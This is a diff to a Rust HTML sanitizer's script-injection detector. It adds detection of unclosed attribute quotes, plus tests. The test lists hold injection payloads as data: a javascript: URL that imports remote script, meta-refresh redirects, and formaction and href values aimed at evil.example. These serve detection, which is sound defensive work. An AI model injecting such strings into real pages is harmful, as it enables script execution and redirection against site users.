@@ -4,6 +4,7 @@
 //! not: dangerous elements, event handlers, script URLs, style expressions. Our own reading of the HTML standard,
 //! section 13.2.5.
 
+mod inside;
 mod names;
 
 use std::ops::Range;
@@ -17,7 +18,10 @@ pub(crate) fn trigger() -> ByteMask {
 
 /// Where script stands in the value, if anywhere.
 pub(crate) fn detect(value: &[u8]) -> Option<Range<usize>> {
-    tags(value).or_else(|| lone_event(value)).or_else(|| script_url(value).map(|end| 0..end))
+    tags(value)
+        .or_else(|| lone_event(value))
+        .or_else(|| inside::attributes(value))
+        .or_else(|| script_url(value).map(|end| 0..end))
 }
 
 fn tags(value: &[u8]) -> Option<Range<usize>> {
@@ -27,8 +31,8 @@ fn tags(value: &[u8]) -> Option<Range<usize>> {
     let mut budget = value.len().saturating_mul(8).saturating_add(8_192);
     while let Some(place) = value.get(at..).and_then(|rest| memchr::memchr(b'<', rest)) {
         let start = at + place;
-        let mut reader = Tag { value, at: start + 1 };
-        if budget == 0 || reader.runs_script() {
+        let mut reader = Tag::at(value, start + 1);
+        if budget == 0 || reader.runs_script() || reader.takes_what_follows() {
             return Some(start..reader.at.min(value.len()));
         }
         budget = budget.saturating_sub(reader.at - start);
@@ -55,9 +59,21 @@ impl Names {
 struct Tag<'v> {
     value: &'v [u8],
     at: usize,
+    /// An attribute's quote does not close.
+    is_open: bool,
 }
 
 impl<'v> Tag<'v> {
+    fn at(value: &'v [u8], at: usize) -> Tag<'v> {
+        Tag { value, at, is_open: false }
+    }
+
+    /// `<a x='` and the end: what the page has behind it becomes a part of the tag. Of a long value only a window may end so.
+    fn takes_what_follows(&self) -> bool {
+        const WHOLE: usize = 32 * 1024;
+        self.is_open && self.value.len() < WHOLE
+    }
+
     fn runs_script(&mut self) -> bool {
         let closing = self.peek() == Some(b'/');
         self.at += usize::from(closing);
@@ -85,9 +101,9 @@ impl<'v> Tag<'v> {
         if self.attributes_run_script(wanted, Names::OfBrowsers) {
             return true;
         }
-        let end = std::mem::replace(&mut self.at, begin);
+        let (end, is_open) = (std::mem::replace(&mut self.at, begin), self.is_open);
         let found = self.attributes_run_script(wanted, Names::OfFilters);
-        self.at = self.at.max(end);
+        (self.at, self.is_open) = (self.at.max(end), is_open);
         found
     }
 
@@ -131,6 +147,7 @@ impl<'v> Tag<'v> {
             Some(quote @ (b'"' | b'\'')) => {
                 self.at += 1;
                 let value = self.take_while(|byte| byte != quote);
+                self.is_open |= self.peek().is_none();
                 self.at += 1;
                 value
             }
@@ -440,6 +457,18 @@ mod tests {
             "<details open ontoggle=confirm(1)>",
             "<body/onpageshow=x()>",
             "<meta http-equiv=refresh content=0>",
+            // What an earlier text left open, this one goes on with.
+            "' href=javascript:import('http://127.0.0.1:18555/x.js') style=position:fixed;inset:0>Our size guide</a>",
+            "Lovely. <a x='",
+            "Lovely. <meta x='",
+            "Lovely. <base x=\"",
+            "' http-equiv=refresh content=0;url=//localhost:18443/cart>",
+            "' href=//evil.example/>",
+            "\" formaction=javascript:x() type=submit",
+            "x' srcdoc='x'",
+            "x href=javascript:x()",
+            "x\" style=\"width:expression(x)",
+            "' a=b c d='e' formaction=//evil.example/>",
             // A value that stands in a tag already, and events that no list has.
             "x onsomethingnew=PWN='N'",
             "x onsomethingnew=a(1)",
@@ -508,6 +537,12 @@ mod tests {
             "<p title='it\"s'>x</p>",
             "<a href='/a' title=\"5' or 6'\">ladder</a>",
             "if (a<b && \"c\"='d') then",
+            "the 5' src = 3, the 6\" data = 4",
+            "from='2024-01-01' to='2024-02-01'",
+            "the 'from' = here and the 'to' = there",
+            "it's to=you from=me",
+            "size='L' data=//",
+            "a=\"b\" href=/c",
         ];
         for case in cases {
             assert_eq!(detect(case.as_bytes()), None, "{case}");
